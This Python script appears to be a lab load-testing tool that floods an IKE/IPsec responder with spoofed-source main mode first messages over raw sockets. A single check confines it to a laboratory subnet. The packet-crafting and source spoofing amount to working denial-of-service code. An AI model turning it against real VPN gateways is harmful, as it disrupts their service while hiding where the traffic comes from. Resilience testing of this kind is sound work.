#!/usr/bin/env python3
"""Sends first IKE messages from spoofed addresses; run as a program in the namespace `wan`.

    flood.py TARGET COUNT RATE        prints {"sent": .., "seconds": ..}

It sends COUNT messages, and goes on until it is told to stop (SIGTERM), but not beyond ten times as many.

Each message is a complete main mode proposal, with a cookie, a source address (of 198.18.0.0/15, RFC 2544) and a source
port of its own. The target is an address of the laboratory's own namespaces and nothing else.
"""
import ipaddress
import json
import os
import random
import signal
import socket
import struct
import sys
import time

SOURCES = ipaddress.ip_network("198.18.0.0/15")
LABORATORY = ipaddress.ip_network("172.30.0.0/24")


def attribute(kind, value):
    return struct.pack(">HH", 0x8000 | kind, value)


def proposal():
    """An SA payload with one transform: AES-256, SHA-1, group 20, RSA signatures, 8 hours (RFC 2409, appendix A)."""
    attributes = b"".join(attribute(*a) for a in ((1, 7), (14, 256), (2, 2), (4, 20), (3, 3), (11, 1), (12, 28800)))
    transform = struct.pack(">BBHBBH", 0, 0, 8 + len(attributes), 1, 1, 0) + attributes
    body = struct.pack(">BBHBBBB", 0, 0, 8 + len(transform), 1, 1, 0, 1) + transform
    return struct.pack(">BBHII", 13, 0, 12 + len(body), 1, 1) + body


def first_message():
    """A main mode message 1 without its cookie: header, SA, and the vendor id of RFC 3947."""
    vendor = bytes.fromhex("4a131c81070358455c5728f20e95452f")
    payloads = proposal() + struct.pack(">BBH", 0, 0, 4 + len(vendor)) + vendor
    return struct.pack(">QBBBBII", 0, 1, 0x10, 2, 0, 0, 28 + len(payloads)) + payloads


def main():
    target, count, rate = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    if ipaddress.ip_address(target) not in LABORATORY:
        sys.exit(f"{target} is not an address of the laboratory")
    rng, tail = random.Random(1), first_message()
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    destination = socket.inet_aton(target)
    begun, first, told = time.monotonic(), int(SOURCES.network_address), []
    signal.signal(signal.SIGTERM, lambda *_: told.append(True))
    for n in range(10 * count):
        if told and n >= count:
            break
        message = os.urandom(8) + tail
        source = struct.pack(">I", first + rng.randrange(1, SOURCES.num_addresses - 1))
        udp = struct.pack(">HHHH", rng.randrange(1024, 65536), 500, 8 + len(message), 0) + message
        ip = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + source + destination
        sock.sendto(ip + udp, (target, 0))
        if n % 64 == 63:
            time.sleep(max(0, begun + n / rate - time.monotonic()))
    print(json.dumps({"sent": n, "seconds": round(time.monotonic() - begun, 1)}))


if __name__ == "__main__":
    main()
